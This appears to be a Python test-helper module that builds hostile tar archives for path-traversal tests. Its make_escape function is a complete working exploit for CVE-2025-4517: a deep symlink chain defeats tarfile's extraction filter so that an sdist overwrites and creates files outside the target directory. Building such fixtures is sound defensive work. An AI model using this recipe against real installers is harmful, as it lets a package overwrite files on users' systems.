"""Archives that try to write where they should not."""

import io
import tarfile
from collections.abc import Iterable
from pathlib import Path


def member(name: str, content: str = "", **fields: object) -> tuple[tarfile.TarInfo, bytes]:
    """A tar member: a file of ``content``, unless ``fields`` of its header say otherwise."""
    info = tarfile.TarInfo(name)
    data = content.encode()
    info.size = len(data)
    for field, value in fields.items():
        setattr(info, field, value)
    return info, data


def symlink(name: str, target: str) -> tuple[tarfile.TarInfo, bytes]:
    return member(name, type=tarfile.SYMTYPE, linkname=target)


def hard_link(name: str, target: str) -> tuple[tarfile.TarInfo, bytes]:
    return member(name, type=tarfile.LNKTYPE, linkname=target)


def directory(name: str) -> tuple[tarfile.TarInfo, bytes]:
    return member(name, type=tarfile.DIRTYPE, mode=0o755)


def make_tar(path: Path, members: Iterable[tuple[tarfile.TarInfo, bytes]], mode: str = "w") -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    with tarfile.open(path, mode) as tar:  # type: ignore[call-overload]
        for info, data in members:
            tar.addfile(info, io.BytesIO(data))
    return path


def make_escape(path: Path, top: str, outside: str, victim: str) -> Path:
    """
    An sdist that leads ``tarfile``'s own filter out to ``outside`` (CVE-2025-4517).

    A chain of links gets so long that ``realpath`` gives up resolving it and believes the rest:
    every directory has a link of one letter beside it, and their short path is resolved to one
    beyond PATH_MAX. A hard link then overwrites ``victim``, and a plain member makes a new file.
    """
    steps, long_name = "abcdefghijklmnop", "d" * 247
    members = [
        member(f"{top}/PKG-INFO", "Metadata-Version: 2.2\nName: evil\nVersion: 1.0\n\n"),
        member(f"{top}/setup.py"),
    ]
    here = top
    for step in steps:
        members += [directory(f"{here}/{long_name}"), symlink(f"{here}/{step}", long_name)]
        here = f"{here}/{long_name}"
    chain = f"{'/'.join(steps)}/{'l' * 254}"
    members += [
        symlink(f"{top}/{chain}", "../" * len(steps)),
        symlink(f"{top}/escape", f"{chain}/../../{outside}"),
        hard_link(f"{top}/overwritten", f"{top}/escape/{victim}"),
        member(f"{top}/overwritten", "overwritten by an sdist\n"),
        member(f"{top}/escape/new.txt", "created by an sdist\n"),
    ]
    return make_tar(path, members, mode="w:gz")
